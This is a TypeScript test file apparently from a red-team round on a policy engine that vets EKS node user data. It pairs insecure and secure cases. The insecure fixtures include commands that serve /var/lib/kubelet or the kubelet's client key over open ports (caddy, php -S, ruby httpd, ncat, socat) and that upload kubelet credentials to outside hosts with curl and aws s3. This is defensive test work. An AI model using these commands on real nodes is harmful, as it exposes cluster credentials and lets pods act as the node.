// Red-team round 45 on EKS NODE user data (fresh eyes): SECURE node user data careful platform teams write, read by
// round 44's network-server table (policy-pack/engine/userData.ts SERVERS, SERVER_CONFIGS) and round 42–43's container
// reader (policy-pack/engine/containers.ts).
// Probed: file servers in forms the table may not follow (a subshell's or pushd's working directory, a systemd unit's
// WorkingDirectory=, cloud-config runcmd lists, Caddy/PHP/Ruby one-line file servers, ncat --send-only and socat
// serving one file), NFS exports and rsyncd modules of a non-secret model cache, ssh -D and socat on loopback, the
// unit `podman generate systemd --new` writes, docker's awslogs driver with --mount bind-propagation, nerdctl's cosign
// verification on run, and Karpenter's generated NodeConfig shape (comment, `---`, metadata); each secure case with an
// insecure neighbour (the same form serving /var/lib/kubelet or binding the kubelet's key).
// Misses are `skip: true` (it.skip) with a MISS comment and the doc checked.
import { al2023Nodes, describeNodeCases, devNodeCase, mime, NodeCase, nodeConfig } from "./nodeBuilders";
import { Resources } from "./support";

const dev = devNodeCase;

/** The NodeConfig part joining the dev cluster (extra `spec` lines). */
const nodePart = (spec: string[] = []) => ({ type: "application/node.eks.aws", body: nodeConfig(spec) });

/** A bash shell part (`set -euo pipefail`, then the lines), then the NodeConfig. */
const script = (name: string, lines: string[]) => (r: Resources) =>
    al2023Nodes(
        r,
        name,
        mime([
            nodePart(),
            {
                type: 'text/x-shellscript; charset="us-ascii"',
                body: ["#!/bin/bash", "set -euo pipefail", ...lines].join("\n"),
            },
        ]),
    );

/** A cloud-config part (lines after `#cloud-config`), then the NodeConfig. */
const cloud = (name: string, lines: string[]) => (r: Resources) =>
    al2023Nodes(
        r,
        name,
        mime([{ type: "text/cloud-config", body: ["#cloud-config", ...lines].join("\n") }, nodePart()]),
    );

/** Lines writing `path` with `body` through a quoted heredoc. */
const heredoc = (path: string, body: string[]) => [`cat > ${path} <<'EOF'`, ...body, "EOF"];

const DATA = ["mkfs.xfs -f -L data /dev/nvme1n1", "mkdir -p /data", "mount -o noatime,nodev,nosuid LABEL=data /data"];
const IMAGE = "111111111111.dkr.ecr.eu-west-1.amazonaws.com/validator-init:1.4.2";
const NERDCTL = "dnf install -y nerdctl cosign";

/** A systemd service running `exec` in `dir` as `user`, written by user data and started. */
const unitLines = (name: string, exec: string, extra: string[]) => [
    ...heredoc(`/etc/systemd/system/${name}.service`, [
        "[Unit]",
        `Description=${name}`,
        "After=network-online.target",
        "",
        "[Service]",
        ...extra,
        `ExecStart=${exec}`,
        "Restart=always",
        "",
        "[Install]",
        "WantedBy=multi-user.target",
    ]),
    "systemctl daemon-reload",
    `systemctl enable --now ${name}.service`,
];

/** The unit `podman generate systemd --new` writes for a container (its ExecStart carries the run's options). */
const podmanUnit = (name: string, run: string) =>
    heredoc(`/etc/systemd/system/container-${name}.service`, [
        "[Unit]",
        `Description=Podman container-${name}.service`,
        "Wants=network-online.target",
        "After=network-online.target",
        "RequiresMountsFor=%t/containers",
        "",
        "[Service]",
        "Environment=PODMAN_SYSTEMD_UNIT=%n",
        "Restart=on-failure",
        "TimeoutStopSec=70",
        `ExecStart=/usr/bin/podman run --cidfile=%t/%n.ctr-id --cgroups=no-conmon --rm --sdnotify=conmon --replace -d --name ${name} ${run}`,
        "ExecStop=/usr/bin/podman stop --ignore -t 10 --cidfile=%t/%n.ctr-id",
        "ExecStopPost=/usr/bin/podman rm -f --ignore -t 10 --cidfile=%t/%n.ctr-id",
        "Type=notify",
        "NotifyAccess=all",
        "",
        "[Install]",
        "WantedBy=default.target",
    ]);

/** User data whose NodeConfig part is Karpenter's generated one (a comment, `---`, metadata) plus the given spec. */
const karpenterShape = (name: string, spec: string[]) => (r: Resources) =>
    al2023Nodes(
        r,
        name,
        mime([
            {
                type: "application/node.eks.aws",
                body: [
                    "# Karpenter Generated NodeConfig",
                    "---",
                    ...nodeConfig(spec)
                        .split("\n")
                        .flatMap(l => (l === "kind: NodeConfig" ? [l, "metadata:", "  creationTimestamp: null"] : [l])),
                ].join("\n"),
            },
        ]),
    );

const insecure: NodeCase[] = [
    dev(
        "nerdctl run --verify=cosign --cosign-key /etc/cosign/validator.pub -v /var/lib/kubelet/pki:/pki:ro",
        script("dev-nerdctl-cosign-pki-nodes", [
            NERDCTL,
            `nerdctl run -d --name node-inventory --verify=cosign --cosign-key /etc/cosign/validator.pub --read-only ` +
                `-v /var/lib/kubelet/pki:/pki:ro ${IMAGE}`,
        ]),
        /kubelet/,
    ),
    // Was a MISS (fixed in round 45): (insecure accepted) `caddy file-server --root DIR --listen :8080` serves DIR on every address (caddy-file-server(8):
    // "--root The path to the root of the site", "--listen The address to which to bind the listener"; caddyserver.com
    // docs "Command Line"), here the kubelet's client key and every pod's projected token: any pod reaching the node reads
    // them and acts as the node or as the custody ServiceAccounts. SERVERS (userData.ts) lists no caddy, so nothing is
    // judged. Fix: add caddy file-server (--root, else cwd; --listen) to SERVERS, or refuse unknown servers naming a node
    // secret directory in their words.
    dev(
        "caddy file-server --root /var/lib/kubelet --listen :8080 --browse (Caddy's documented one-line file server)",
        script("dev-caddy-kubelet-nodes", [
            "dnf install -y caddy",
            "nohup caddy file-server --root /var/lib/kubelet --listen :8080 --browse >/dev/null 2>&1 &",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 45): (insecure accepted) PHP's built-in web server serves its document root (`-t DIR`, else the working
    // directory) on the `-S ADDR:PORT` it is given (PHP RFC "Built-in web server", php.net "Built-in web server":
    // `php -S localhost:8000 -t foo/`); 0.0.0.0 hands /var/lib/kubelet (the kubelet's key, pods' tokens) to every pod.
    // Not in SERVERS. Fix: read `php -S ADDR -t DIR` (cwd by default) into a files listener.
    dev(
        "php -S 0.0.0.0:8000 -t /var/lib/kubelet (PHP's built-in web server with a document root)",
        script("dev-php-s-kubelet-nodes", [
            "dnf install -y php-cli",
            "nohup php -S 0.0.0.0:8000 -t /var/lib/kubelet >/dev/null 2>&1 &",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 45): (insecure accepted) `ruby -run -e httpd DIR -p PORT` is un.rb's WEBrick file server (ruby/lib/un.rb `httpd`:
    // "--bind-address=ADDR", "--port=NUM", DocumentRoot the operand, every address by default); here it serves
    // /var/lib/kubelet to every pod. Not in SERVERS. Fix: read ruby -run -e httpd (operand, else cwd; --bind-address).
    dev(
        "ruby -run -e httpd /var/lib/kubelet -p 8000 (Ruby's un.rb WEBrick server)",
        script("dev-ruby-httpd-kubelet-nodes", [
            "dnf install -y ruby rubygem-webrick",
            "nohup ruby -run -e httpd /var/lib/kubelet -p 8000 --bind-address=0.0.0.0 >/dev/null 2>&1 &",
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 45): (insecure accepted) ncat listening with a node secret on its standard input sends that file to each client
    // (Ncat guide "File transfer": `ncat -l --send-only < outputfile`; `nc -l <port> < <file>` as file transfers
    // document it): every pod connecting to port 9999 gets the kubelet's client key and acts as the node. Neither the
    // relay rule (operands naming a secret) nor SERVERS sees the redirection. Fix: judge a listening ncat/nc/socat whose
    // stdin is redirected from a path holding node secrets as a files listener of that path.
    dev(
        "ncat -lk 9999 --send-only < /var/lib/kubelet/pki/kubelet-client-current.pem (each client gets the kubelet's key)",
        script("dev-ncat-send-key-nodes", [
            "dnf install -y nmap-ncat",
            "nohup ncat -lk 9999 --send-only < /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1 &",
        ]),
        /./,
    ),
    dev(
        "(cd /var/lib/kubelet && python3 -m http.server 8080) & (a subshell's working directory)",
        script("dev-http-server-subshell-kubelet-nodes", [
            "(cd /var/lib/kubelet && exec python3 -m http.server 8080 >/dev/null 2>&1) &",
        ]),
    ),
    dev(
        "a root systemd unit WorkingDirectory=/var/lib/kubelet ExecStart=/usr/bin/python3 -m http.server 8080",
        script("dev-unit-http-server-kubelet-nodes", [
            ...unitLines("node-files", "/usr/bin/python3 -m http.server 8080", ["WorkingDirectory=/var/lib/kubelet"]),
        ]),
    ),
    dev(
        "cloud-config runcmd list form [python3, -m, http.server, 8080, --directory, /var/lib/kubelet/pods]",
        cloud("dev-runcmd-list-http-server-nodes", [
            "runcmd:",
            "  - [sh, -c, 'nohup python3 -m http.server 8080 --directory /var/lib/kubelet/pods >/dev/null 2>&1 &']",
        ]),
    ),
    dev(
        "pushd /var/lib/kubelet/pki; python3 -m http.server 8443 & (pushd changes the working directory)",
        script("dev-pushd-http-server-pki-nodes", [
            "pushd /var/lib/kubelet/pki",
            "nohup python3 -m http.server 8443 >/dev/null 2>&1 &",
            "popd",
        ]),
    ),
    dev(
        "socat TCP-LISTEN:7000,fork,reuseaddr OPEN:/var/lib/kubelet/pki/kubelet-client-current.pem (a file on a port)",
        script("dev-socat-open-key-nodes", [
            "dnf install -y socat",
            "nohup socat TCP-LISTEN:7000,fork,reuseaddr OPEN:/var/lib/kubelet/pki/kubelet-client-current.pem,rdonly >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "podman generate systemd --new unit running a container with -v /var/lib/kubelet/pki:/pki:ro",
        script("dev-podman-unit-pki-nodes", [
            "dnf install -y podman",
            ...podmanUnit("node-inventory", `--read-only -v /var/lib/kubelet/pki:/pki:ro ${IMAGE}`),
            "systemctl daemon-reload",
            "systemctl enable --now container-node-inventory.service",
        ]),
        /kubelet/,
    ),
    dev(
        "docker run --log-driver awslogs ... --mount type=bind,source=/var/lib/kubelet/pods,target=/pods,readonly",
        script("dev-docker-awslogs-pods-nodes", [
            "dnf install -y docker && systemctl enable --now docker",
            "docker run -d --name pod-inventory --log-driver awslogs --log-opt awslogs-region=eu-west-1 " +
                "--log-opt awslogs-group=/eks/dev-validators/node-containers --read-only " +
                `--mount type=bind,source=/var/lib/kubelet/pods,target=/pods,readonly ${IMAGE}`,
        ]),
        /kubelet/,
    ),
    dev(
        "Karpenter's NodeConfig shape (comment, ---, metadata) with kubelet anonymous authentication enabled",
        karpenterShape("dev-karpenter-shape-anon-nodes", [
            "  kubelet:",
            "    config:",
            "      authentication:",
            "        anonymous:",
            "          enabled: true",
        ]),
    ),
    // Neighbours of the keepers' rule (rootReads.ts NODE_SECRET_KEEPERS, fixed in round 45): a program the pack does
    // not know to keep the node's secrets on the node is refused whatever it is (an unknown server, an upload, a
    // copy to another host), a known one passes.
    dev(
        "aws s3 cp /var/lib/kubelet/pki/kubelet-client-current.pem s3://node-backups/ (a copy to another host)",
        script("dev-aws-s3-kubelet-key-nodes", [
            "aws s3 cp /var/lib/kubelet/pki/kubelet-client-current.pem s3://node-backups/",
        ]),
        /kubelet-client-current\.pem/,
    ),
    dev(
        "curl -T /var/lib/kubelet/kubeconfig https://inventory.example.com/ (an upload)",
        script("dev-curl-upload-kubeconfig-nodes", [
            "curl -sS -T /var/lib/kubelet/kubeconfig https://inventory.example.com/",
        ]),
        /kubeconfig/,
    ),
    dev(
        "openssl s_server -WWW -key /var/lib/kubelet/pki/kubelet-server-current.pem (serves its working directory)",
        script("dev-openssl-s-server-nodes", [
            "cd /var/lib/kubelet && nohup openssl s_server -accept 8443 -WWW -key /var/lib/kubelet/pki/kubelet-server-current.pem -cert /var/lib/kubelet/pki/kubelet-server-current.pem >/dev/null 2>&1 &",
        ]),
        /kubelet-server-current\.pem/,
    ),
    dev(
        "a vendor agent started with --kubelet-dir /var/lib/kubelet --listen 0.0.0.0:9000 (unknown program)",
        script("dev-unknown-agent-kubelet-dir-nodes", [
            "nohup /opt/acme/bin/acme-agent --kubelet-dir /var/lib/kubelet --listen 0.0.0.0:9000 >/dev/null 2>&1 &",
        ]),
        /acme-agent/,
    ),
];

const secure: NodeCase[] = [
    // Was a MISS (fixed in round 45): (secure refused) nerdctl verifies the image's cosign signature before it runs it (nerdctl docs/cosign.md,
    // "--verify while pulling"; docs/command-reference.md lists `--verify` and `--cosign-key` among run's image flags):
    // a supply-chain check that adds no power to the container. RUN_OPTIONS (containers.ts) lacks both, so the confined
    // validator (read-only, no capabilities, uid 10001) is "not pod-like" and its /data bind refused as root reading
    // a pod-writable directory; careful teams lose signature verification. Fix: add verify, cosign-key,
    // cosign-certificate-identity(-regexp), cosign-certificate-oidc-issuer(-regexp) and notation-key-name as plain (the
    // key path is a public key; it may stay a nodePath).
    dev(
        "nerdctl run --verify=cosign --cosign-key /etc/cosign/validator.pub --read-only --cap-drop ALL --user 10001 -v /data/validator:/data ... --home /data",
        script("dev-nerdctl-cosign-ok-nodes", [
            ...DATA,
            NERDCTL,
            `nerdctl run -d --name validator-init --verify=cosign --cosign-key /etc/cosign/validator.pub --read-only ` +
                `--cap-drop ALL --user 10001:10001 -v /data/validator:/data ${IMAGE} --home /data`,
        ]),
        /./,
    ),
    dev(
        "a systemd unit WorkingDirectory=/opt/models ExecStart=/usr/bin/python3 -m http.server 8080 User=nobody (a model cache)",
        script("dev-unit-http-server-models-ok-nodes", [
            "mkdir -p /opt/models",
            ...unitLines("model-cache", "/usr/bin/python3 -m http.server 8080", [
                "User=nobody",
                "WorkingDirectory=/opt/models",
                "NoNewPrivileges=yes",
            ]),
        ]),
    ),
    dev(
        "a root systemd unit WorkingDirectory=/opt/models ExecStart=/usr/bin/python3 -m http.server 8080",
        script("dev-unit-root-http-server-models-ok-nodes", [
            "mkdir -p /opt/models",
            ...unitLines("model-cache", "/usr/bin/python3 -m http.server 8080", ["WorkingDirectory=/opt/models"]),
        ]),
    ),
    dev(
        "(cd /opt/models && python3 -m http.server 8080) & (a subshell's working directory)",
        script("dev-http-server-subshell-ok-nodes", [
            "mkdir -p /opt/models",
            "(cd /opt/models && exec python3 -m http.server 8080 >/dev/null 2>&1) &",
        ]),
    ),
    dev(
        "pushd /opt/models; python3 -m http.server 8080 &; popd",
        script("dev-pushd-http-server-ok-nodes", [
            "mkdir -p /opt/models",
            "pushd /opt/models",
            "nohup python3 -m http.server 8080 >/dev/null 2>&1 &",
            "popd",
        ]),
    ),
    dev(
        "caddy file-server --root /opt/models --listen :8080",
        script("dev-caddy-models-ok-nodes", [
            "dnf install -y caddy",
            "mkdir -p /opt/models",
            "nohup caddy file-server --root /opt/models --listen :8080 >/var/log/caddy-fs.log 2>&1 &",
        ]),
    ),
    dev(
        "an NFS export of /opt/models read-only to the VPC (/etc/exports, exportfs -ra)",
        script("dev-exports-models-ok-nodes", [
            "dnf install -y nfs-utils",
            "mkdir -p /opt/models",
            ...heredoc("/etc/exports", ["/opt/models 10.0.0.0/16(ro,root_squash,no_subtree_check)"]),
            "systemctl enable --now nfs-server",
            "exportfs -ra",
        ]),
    ),
    dev(
        "an rsync daemon module of /opt/models (read only = yes, hosts allow = 10.0.0.0/16)",
        script("dev-rsyncd-models-ok-nodes", [
            "dnf install -y rsync-daemon",
            "mkdir -p /opt/models",
            ...heredoc("/etc/rsyncd.conf", [
                "uid = nobody",
                "gid = nobody",
                "use chroot = yes",
                "[models]",
                "    path = /opt/models",
                "    read only = yes",
                "    hosts allow = 10.0.0.0/16",
            ]),
            "systemctl enable --now rsyncd",
        ]),
    ),
    dev(
        "ssh -f -N -D 1080 to a bastion (SOCKS on localhost: ssh's default without -g)",
        script("dev-ssh-d-localhost-ok-nodes", [
            "ssh -f -N -o ExitOnForwardFailure=yes -o StrictHostKeyChecking=accept-new -D 1080 tunnel@bastion.internal.example",
        ]),
    ),
    dev(
        "socat TCP-LISTEN:9101,bind=127.0.0.1,fork,reuseaddr TCP:127.0.0.1:9100 (a loopback relay, no program)",
        script("dev-socat-loopback-ok-nodes", [
            "dnf install -y socat",
            "nohup socat TCP-LISTEN:9101,bind=127.0.0.1,fork,reuseaddr TCP:127.0.0.1:9100 >/dev/null 2>&1 &",
        ]),
    ),
    dev(
        "podman generate systemd --new unit (cidfile %t, --cgroups=no-conmon, --sdnotify=conmon) of a confined validator with -v /data/validator:/data",
        script("dev-podman-unit-ok-nodes", [
            ...DATA,
            "dnf install -y podman",
            ...podmanUnit(
                "validator-init",
                `--read-only --cap-drop ALL --user 10001:10001 -v /data/validator:/data:Z ${IMAGE} --home /data`,
            ),
            "systemctl daemon-reload",
            "systemctl enable --now container-validator-init.service",
        ]),
    ),
    dev(
        "docker run --log-driver awslogs --log-opt ... --mount type=bind,source=/data/validator,target=/data,bind-propagation=rprivate (confined)",
        script("dev-docker-awslogs-ok-nodes", [
            ...DATA,
            "dnf install -y docker && systemctl enable --now docker",
            "docker run -d --name validator-init --log-driver awslogs --log-opt awslogs-region=eu-west-1 " +
                "--log-opt awslogs-group=/eks/dev-validators/node-containers --log-opt awslogs-create-group=true " +
                "--read-only --cap-drop ALL --user 10001:10001 --security-opt no-new-privileges:true " +
                `--mount type=bind,source=/data/validator,target=/data,bind-propagation=rprivate ${IMAGE} --home /data`,
        ]),
    ),
    dev(
        "Karpenter's NodeConfig shape (comment, ---, metadata: creationTimestamp: null) with kubelet maxPods",
        karpenterShape("dev-karpenter-shape-ok-nodes", ["  kubelet:", "    config:", "      maxPods: 58"]),
    ),
    dev(
        "kubectl --kubeconfig /var/lib/kubelet/kubeconfig label its own node, then lists the kubelet's pki directory (known keepers)",
        script("dev-keepers-ok-nodes", [
            'kubectl --kubeconfig /var/lib/kubelet/kubeconfig label node "$(hostname)" team=validators --overwrite || true',
            "cd /var/lib/kubelet && ls -la pki",
        ]),
    ),
    dev(
        "curl --cert/--key with the kubelet's client pair to the cluster endpoint (TLS client authentication sends no key)",
        script("dev-curl-client-cert-ok-nodes", [
            "curl -sS --cacert /etc/kubernetes/pki/ca.crt --cert /var/lib/kubelet/pki/kubelet-client-current.pem " +
                "--key /var/lib/kubelet/pki/kubelet-client-current.pem https://EXAMPLED539D4633E53DE1B71EXAMPLE.gr7.eu-west-1.eks.amazonaws.com/healthz -o /dev/null",
        ]),
    ),
];

describeNodeCases(
    "red team round 45: secure node user data the server table and container reader read (fresh eyes)",
    insecure,
    secure,
);
